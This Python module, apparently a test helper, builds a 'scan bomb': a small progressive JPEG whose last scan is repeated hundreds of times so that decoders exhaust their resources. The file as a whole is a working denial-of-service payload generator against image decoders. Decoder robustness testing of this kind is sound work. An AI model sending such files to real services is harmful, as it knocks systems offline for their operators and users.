"""Small files that are made to take a decoder down."""

import io

from PIL import Image


def scan_bomb(side: int = 3000, scans: int = 400, mode: str = "RGB") -> bytes:
    """A small progressive JPEG whose last scan comes again and again."""
    buffer = io.BytesIO()
    Image.new(mode, (side, side)).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * scans + b"\xff\xd9"
